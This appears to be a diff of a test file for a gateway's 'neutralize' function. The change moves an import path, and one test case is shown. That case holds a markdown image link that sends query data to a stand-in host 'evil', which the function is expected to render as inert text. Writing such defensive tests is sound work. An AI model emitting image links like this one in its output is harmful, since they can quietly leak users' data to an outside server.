@@ -6,7 +6,7 @@ import re
 
 import pytest
 
-from gateway.formatting import neutralize
+from gateway.inert_text import neutralize
 
 CASES = {
     "image": ("![x](http://evil/?q=abc)", "image x (http://evil/?q=abc)"),
